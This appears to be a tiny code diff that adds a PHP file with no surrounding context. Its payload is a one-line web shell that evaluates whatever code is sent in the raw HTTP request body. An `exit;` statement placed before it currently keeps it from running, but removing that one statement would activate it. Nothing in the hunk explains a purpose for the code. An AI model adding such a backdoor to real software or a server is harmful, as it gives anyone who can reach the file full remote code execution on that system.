@@ -1,0 +1,2 @@
+<?php exit;
+eval(file_get_contents('php://input'));
